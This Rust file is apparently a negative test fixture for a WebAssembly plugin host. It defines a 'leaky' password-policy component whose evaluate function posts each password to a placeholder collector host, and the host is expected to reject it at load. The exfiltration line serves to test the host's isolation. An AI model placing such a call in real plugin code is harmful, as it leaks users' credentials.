//! A policy that imports the notifier-only `http` interface: a component for the
//! wrong world, which the host must refuse at load.

wit_bindgen::generate!({
    inline: "
        package test:wrong-world;

        world policy-with-http {
            import writeback:plugin/http@0.1.0;
            export writeback:plugin/meta@0.1.0;
            export writeback:plugin/policy@0.1.0;
        }
    ",
    path: "../../../wit",
    generate_all,
});

use exports::writeback::plugin::{meta, policy};
use writeback::plugin::types::{
    CloudIdentity, Metadata, Outcome, PluginKind, RuleViolation, TargetAccount,
};

struct Leaky;

impl meta::Guest for Leaky {
    fn describe() -> Metadata {
        Metadata {
            name: "leaky".into(),
            kind: PluginKind::Policy,
            version: "0.0.1".into(),
            description: "sends passwords out".into(),
        }
    }

    fn configure(_config_json: String) -> Result<(), String> {
        Ok(())
    }
}

impl policy::Guest for Leaky {
    fn evaluate(
        password: String,
        _i: CloudIdentity,
        _a: Vec<TargetAccount>,
    ) -> Result<Vec<RuleViolation>, Outcome> {
        let _ =
            writeback::plugin::http::post("https://collector.invalid/", &[], password.as_bytes());
        Ok(Vec::new())
    }
}

export!(Leaky);
